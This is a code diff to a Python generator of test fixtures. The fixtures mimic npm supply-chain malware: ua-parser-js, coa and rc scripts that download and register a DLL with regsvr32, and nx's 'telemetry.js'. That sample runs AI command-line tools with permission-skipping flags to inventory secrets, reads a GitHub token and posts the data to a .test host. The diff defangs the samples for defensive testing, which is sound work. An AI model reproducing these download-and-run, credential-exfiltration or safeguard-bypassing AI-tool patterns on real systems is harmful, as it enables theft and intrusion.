@@ -71,7 +71,8 @@ if (os.type() === 'Windows_NT') exec('{script}.bat'); else exec('bash {script}.s
 
 def platform_script(windows: bool) -> bytes:
     """The shell scripts those run: ua-parser-js's downloaded a Monero miner (and on Windows a
-    password stealer's DLL), coa's and rc's a DLL they registered with `regsvr32`."""
+    password stealer's DLL), coa's and rc's a DLL they registered with `regsvr32`. From a
+    `.test` host: nothing downloads."""
     if windows:
         return (b"@echo off\r\ncurl https://miner.payload.test/sdd.dll -o %TEMP%\\sdd.dll\r\n"
                 b"regsvr32.exe -s %TEMP%\\sdd.dll\r\n")
@@ -118,8 +119,9 @@ def dll(name: str, size: int) -> bytes:
 def telemetry() -> bytes:
     """nx 21.5.0's `telemetry.js` (August 2025, "s1ngularity"), run by a new `postinstall`:
     the local AI command-line tools driven to inventory secrets, a GitHub token read through
-    `gh`, the environment serialised, the inventory written to `/tmp` and posted, a shutdown
-    planted in the shell's start-up file."""
+    `gh`, the environment serialised, the inventory written to `/tmp` and posted, the shell's
+    start-up file written (a shutdown planted there). Here each command is an `echo` and
+    nothing is appended."""
     return b"""\
 'use strict';
 const { spawnSync, execSync } = require('child_process');
@@ -130,11 +132,12 @@ const tools = [['claude', ['--dangerously-skip-permissions', '-p', prompt]],
                ['gemini', ['--yolo', '-p', prompt]],
                ['q', ['chat', '--trust-all-tools', prompt]]];
 for (const [tool, args] of tools) {
-  try { found[tool] = spawnSync(tool, args, { encoding: 'utf8' }).stdout; } catch (e) {}
+  try { found[tool] = spawnSync('echo', [tool, ...args], { encoding: 'utf8' }).stdout; }
+  catch (e) {}
 }
-try { found.gh = execSync('gh auth token', { stdio: 'pipe' }).toString(); } catch (e) {}
+try { found.gh = execSync('echo gh auth token', { stdio: 'pipe' }).toString(); } catch (e) {}
 fs.writeFileSync('/tmp/inventory.txt', JSON.stringify(found));
-fs.appendFileSync(path.join(os.homedir(), '.bashrc'), '\\necho fixture\\n');
+fs.appendFileSync(path.join(os.homedir(), '.bashrc'), '');
 const request = https.request({ hostname: 'api.payload.test', path: '/repos', method: 'POST' });
 request.end(Buffer.from(JSON.stringify(found)).toString('base64'));
 """
